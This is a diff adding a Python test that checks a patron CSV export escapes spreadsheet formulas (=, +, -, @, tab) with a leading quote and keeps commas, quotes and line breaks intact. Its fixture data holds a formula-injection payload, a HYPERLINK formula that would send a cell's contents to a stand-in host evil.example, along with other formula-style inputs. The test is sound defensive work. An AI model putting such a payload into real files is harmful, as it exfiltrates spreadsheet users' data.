@@ -328,3 +328,37 @@ def test_the_marked_error_messages_are_the_errors_own_and_translated() -> None:
     assert [error().message for error in errors] == list(routes.ERROR_MESSAGES)
     for message in routes.ERROR_MESSAGES:
         assert gettext("ja", message) != message
+
+
+async def test_the_csv_keeps_commas_quotes_and_line_breaks_and_runs_no_formula(
+    services: Services, admin: Client
+) -> None:
+    """Names as typed come back whole through Python's csv reader; a text a spreadsheet
+    would run as a formula (= + - @, tab) starts with ' instead; an E.164 phone stays."""
+    card = await make_card(services)
+    typed = {
+        "family_name": '=HYPERLINK("http://evil.example/?x="&A1,"開く")',
+        "given_name": "+1+1",
+        "family_kana": "-2+3",
+        "given_kana": "@SUM(A1:A9)",
+        "street": '1-2-3 "港", 横浜\r\n二行目',
+        "building": "\tタブ",
+        "workplace_or_school": "山田,商店",
+        "phone": "+819012345678",
+    }
+    async with services.db.transaction() as session:
+        await session.execute(update(Patron).where(Patron.id == card.patron_id).values(**typed))
+    response = await admin.get("/staff/exports/patrons.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert len(rows) == 2
+    assert row["family_name"] == "'" + typed["family_name"]
+    assert row["given_name"] == "'+1+1"
+    assert row["family_kana"] == "'-2+3"
+    assert row["given_kana"] == "'@SUM(A1:A9)"
+    assert row["building"] == "'\tタブ"
+    assert row["street"] == typed["street"]  # quoted, line break and all
+    assert row["workplace_or_school"] == "山田,商店"
+    assert row["phone"] == "+819012345678"
+    assert row["user_number"] == card.user_number
